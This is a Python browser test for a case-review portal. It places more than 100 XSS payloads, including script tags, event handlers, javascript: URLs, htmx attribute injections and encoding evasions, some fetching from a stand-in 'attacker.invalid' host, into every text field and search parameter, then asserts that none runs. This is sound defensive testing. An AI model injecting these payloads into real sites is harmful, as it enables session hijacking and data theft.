"""Test 5: XSS in the real browser.

More than 100 payloads (script tags, event handlers, javascript: URLs, SVG, attribute
breakouts, and hx-get / hx-on / data-hx-* injections) go into every free-text field
that exists now (agency, partnership and person names, review title, the people's
names, aliases, addresses and relationships, trawl instructions, a return's summary,
a request for more time) and into the search and filter parameters; then every page
showing them is opened as the roles that see them, and their htmx swaps are triggered
(searches typed, the dashboard's poll). The pass figure: no payload runs (each would
call a binding), no request leaves for the attacker's host, and no CSP violation or
console error (the page watch in conftest.py fails the test on any).

Runs last among the browser tests (file order): its records are added to the shared
demo database under their own partnership and inactive agencies.
"""

from __future__ import annotations

import datetime as dt
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import expect

from portal.accounts.models import Role
from portal.demo.data import DEMO_PASSWORD
from tests.browser.conftest import BROWSER_TOTP_SECRET, demo_user

pytestmark = pytest.mark.browser

ATTACKER = "attacker.invalid"


def _payloads() -> list[str]:
    """Each payload names itself (N), calls __xss(N) if it runs, and fetches ATTACKER/N."""
    shapes = [
        "<script>__xss({n})</script>",
        "<script src=//{a}/{n}></script>",
        "<img src=x onerror=__xss({n})>",
        "<img src=//{a}/{n}>",
        "<svg onload=__xss({n})>",
        "<svg><script>__xss({n})</script></svg>",
        "<svg><a xlink:href=javascript:__xss({n})><text>x</text></a></svg>",
        "<body onload=__xss({n})>",
        "<iframe src=javascript:__xss({n})>",
        "<iframe srcdoc='<script>parent.__xss({n})</script>'>",
        "<a href=javascript:__xss({n})>link {n}</a>",
        "<a href=\"jav&#x09;ascript:__xss({n})\">tab {n}</a>",
        "<details open ontoggle=__xss({n})>",
        "<input autofocus onfocus=__xss({n})>",
        "<video><source onerror=__xss({n})></video>",
        "<math><mtext><table><mglyph><style><img src=x onerror=__xss({n})>",
        "\"><script>__xss({n})</script>",
        "'><img src=x onerror=__xss({n})>",
        "\" onmouseover=\"__xss({n})\" x=\"",
        "' autofocus onfocus='__xss({n})' x='",
        "</textarea><script>__xss({n})</script>",
        "</title><script>__xss({n})</script>",
        "<style>@import '//{a}/{n}';</style>",
        "<link rel=stylesheet href=//{a}/{n}>",
        "<object data=//{a}/{n}></object>",
        "<embed src=//{a}/{n}>",
        "<form action=//{a}/{n}><button>go {n}</button></form>",
        "<meta http-equiv=refresh content='0;url=//{a}/{n}'>",
        "<base href=//{a}/{n}/>",
        "<div hx-get=//{a}/{n} hx-trigger=load>h{n}</div>",
        "<div data-hx-get=//{a}/{n} data-hx-trigger=load>d{n}</div>",
        "<div hx-on::load=__xss({n})>o{n}</div>",
        "<button hx-on:click=__xss({n}) id=b{n}>c{n}</button>",
        "<div hx-get=/ hx-trigger=load hx-target=body hx-swap=innerHTML hx-vals='js:{{a:__xss({n})}}'>v{n}</div>",
        "<div hx-headers='js:{{\"X\":__xss({n})}}' hx-get=/ hx-trigger=load>e{n}</div>",
        "<template><img src=x onerror=__xss({n})></template>",
        "{{{{7*7}}}}<{n}>${{__xss({n})}}",
        "javascript:__xss({n})",
        "<scr<script>ipt>__xss({n})</scr</script>ipt>",
        "<IMG SRC=\"jav\tascript:__xss({n});\">",
        "<svg/onload=__xss({n})//",
        "%3Cscript%3E__xss({n})%3C/script%3E",
        "&lt;script&gt;__xss({n})&lt;/script&gt;",
        "<noscript><p title=\"</noscript><img src=x onerror=__xss({n})>\">",
        "<a href=//{a}/{n} ping=//{a}/{n}>p{n}</a>",
    ]
    payloads = []
    for round_ in range(3):
        for shape in shapes:
            n = len(payloads)
            text = shape.format(n=n, a=ATTACKER)
            payloads.append(text.upper().replace("__XSS", "__xss") if round_ == 1 else text)
    return payloads[: max(110, len(shapes) * 2)]


PAYLOADS = _payloads()


@pytest.fixture(scope="module")
def xss_world(live_app):
    """One review, its people, agencies, a trawl, an answer and a request for more time, all payloads."""
    from portal.accounts.models import User
    from portal.accounts.passwords import hash_password
    from portal.accounts.two_factor import seal
    from portal.clock import utcnow
    from portal.extensions import db
    from portal.organisations.models import Agency, Partnership, Sector
    from portal.reviews.models import Review, ReviewKind, Subject, SubjectRole
    from portal.trawls import service
    from portal.trawls.models import ReceivedBy, ReturnKind, TrawlPurpose, TrawlRequest

    if db.database.obj is not live_app.config["DATABASE"]:
        db.database.initialize(live_app.config["DATABASE"])
    with live_app.test_request_context():
        officer = User.get(User.email == demo_user(Role.REVIEW_OFFICER).email)
        partnership = Partnership.create(name=f"XSS {PAYLOADS[0]}"[:120])
        agencies = [
            Agency.create(name=f"{n:03d} {p}"[:160], sector=Sector.OTHER, contact_email=f"xss{n}@agency.example")
            for n, p in enumerate(PAYLOADS)
        ]
        review = Review.create(
            reference="DHR-2026-XSS", kind=ReviewKind.DHR, title=PAYLOADS[16][:80], partnership=partnership,
            review_officer=officer, date_notified=dt.date(2026, 3, 1),
        )
        for start in range(0, len(PAYLOADS), 4):
            chunk = (PAYLOADS[start:start + 4] + PAYLOADS[:4])[:4]
            Subject.create(
                review=review, role=SubjectRole.DECEASED if start == 0 else SubjectRole.HOUSEHOLD_MEMBER,
                full_name=chunk[0][:120], aliases=chunk[1], address_at_time=chunk[2],
                previous_addresses="\n".join(chunk), relationship_to_deceased=chunk[3][:120],
            )
        everything = "\n\n".join(PAYLOADS)
        service.issue_trawl(
            review, [a.id for a in agencies], officer, purpose=TrawlPurpose.INITIAL, instructions=everything
        )
        first, second = (TrawlRequest.get(TrawlRequest.agency == a) for a in agencies[:2])
        service.request_extension(second, second.version, everything, second.due_date + dt.timedelta(days=9), officer)
        service.submit_return(
            first, first.version, ReturnKind.INVOLVEMENT,
            {"summary": everything, "contact_from": dt.date(2025, 1, 4), "contact_to": dt.date(2025, 2, 9),
             "contact_outside_scope": True, "contact_outside_scope_note": everything, "records_secured": True,
             "personal_interest": True, "personal_interest_note": everything},
            officer, received_by=ReceivedBy.EMAIL,
        )
        lead = User.create(
            email="xss.lead@northvale.example", full_name=PAYLOADS[2][:120], role=Role.AGENCY_LEAD,
            agency=agencies[1], password_hash=hash_password(DEMO_PASSWORD),
            totp_secret=seal(BROWSER_TOTP_SECRET), totp_enrolled_at=utcnow(),
        )
        Agency.update(active=False).where(Agency.id.in_([a.id for a in agencies])).execute()
    return {"review": review.id, "requests": (first.id, second.id), "lead": lead.email, "subject": Subject.select().where(Subject.review == review).first().id}


class Trap:
    """What a payload would do if it ran: call __xss(N), or reach the attacker's host."""

    def __init__(self, session):
        self.ran: list = []
        self.requests: list[str] = []
        session.context.expose_function("__xss", lambda n=None: self.ran.append(n))
        session.context.on("request", self._request)

    def _request(self, request) -> None:
        # Our own URLs may carry a payload in their query string; only the host counts.
        parts = urlsplit(request.url)
        if parts.scheme != "data" and parts.hostname != "127.0.0.1":
            self.requests.append(request.url)

    def check(self) -> None:
        assert self.ran == [], f"payloads ran: {self.ran}"
        assert self.requests == [], f"requests left the site: {self.requests}"


def _visit(session, trap, path: str, htmx_search: str | None = None) -> None:
    response = session.goto(path)
    assert response is not None and response.status in (200, 404), f"{path}: {response and response.status}"
    if htmx_search:  # type into the page's search box: htmx swaps the results in
        box = session.page.locator("#q")
        for payload in PAYLOADS[:: len(PAYLOADS) // 4]:
            box.fill(payload)
            session.page.wait_for_timeout(450)
    session.page.wait_for_timeout(150)
    session.watch.collect(session.page)


def test_no_payload_runs_anywhere(open_session, xss_world):
    review, (answered, extended), subject = xss_world["review"], xss_world["requests"], xss_world["subject"]
    officer = open_session()
    trap = Trap(officer)
    officer.sign_in(demo_user(Role.REVIEW_OFFICER).email, DEMO_PASSWORD)
    officer.page.evaluate("() => __xss(-1)")  # the trap works: a payload that ran would be heard
    officer.page.wait_for_timeout(100)
    assert trap.ran == [-1]
    trap.ran.clear()
    for path in (
        f"/reviews/{review}",
        f"/reviews/{review}/edit",
        f"/reviews/{review}/subjects/{subject}/edit",
        f"/reviews/{review}/trawls/new",
        f"/trawl-requests/{answered}",
        f"/trawl-requests/{extended}",
        f"/trawl-requests/{answered}/letter",
        f"/reviews/{review}/no-record-of-contact",
        "/returns?all=1",
    ):
        _visit(officer, trap, path)
    _visit(officer, trap, "/reviews", htmx_search="q")
    # The dashboard polls every second in the tests: let it swap its rows in twice.
    _visit(officer, trap, f"/reviews/{review}/returns")
    officer.page.wait_for_timeout(2500)
    _visit(officer, trap, f"/reviews/{review}")
    officer.page.get_by_role("button", name="Add a person").click()
    expect(officer.page.locator("#subject-new")).to_be_visible()
    for payload in PAYLOADS[:3]:
        _visit(officer, trap, f"/reviews?q={quote(payload)}&kind={quote(payload)}")
        _visit(officer, trap, f"/reviews/{review}/returns?status={quote(payload)}&sector={quote(payload)}")
    trap.check()

    admin = open_session()
    admin_trap = Trap(admin)
    admin.sign_in(demo_user(Role.ADMIN).email, DEMO_PASSWORD)
    for path in ("/admin/partnerships", "/admin/audit-log", "/admin/outbox"):
        _visit(admin, admin_trap, path)
    _visit(admin, admin_trap, "/admin/agencies?sector=other", htmx_search="q")
    _visit(admin, admin_trap, "/admin/users", htmx_search="q")
    admin_trap.check()

    lead = open_session()
    lead_trap = Trap(lead)
    lead.sign_in(xss_world["lead"], DEMO_PASSWORD)
    for suffix in ("", "/letter", "/involvement", "/nil-return", "/extension"):
        _visit(lead, lead_trap, f"/inbox/{extended}{suffix}")
    _visit(lead, lead_trap, "/inbox")
    lead_trap.check()
    assert len(PAYLOADS) >= 100
